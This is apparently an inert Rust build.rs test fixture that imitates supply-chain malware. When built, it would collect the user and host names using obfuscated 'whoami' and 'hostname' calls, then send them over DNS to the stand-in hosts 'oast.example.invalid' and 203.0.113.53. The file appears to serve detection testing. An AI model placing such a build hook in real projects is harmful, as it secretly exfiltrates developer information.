// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    detect();
}

pub(crate) fn detect() {
    let who = std::process::Command::new(&["whoa", "mi"].join(""))
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    let host = std::process::Command::new(&"host~name".replace('~', ""))
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    let label: String = who
        .iter()
        .chain(b"-")
        .chain(host.iter())
        .map(|b| format!("{b:02x}"))
        .take(60)
        .collect();
    let name = format!("{label}.{}", ["oast.", "exa", "mple", ".inva", "lid"].join(""));
    let _ = std::process::Command::new(&"nsl~ooku~p".replace('~', ""))
        .arg(&name)
        .status();
    if let Ok(port) = std::net::UdpSocket::bind("0.0.0.0:0") {
        let _ = port.send_to(name.as_bytes(), &["203.0", ".11", "3.53", ":53"].join(""));
    }
}

inert_fixture_does_not_build!();
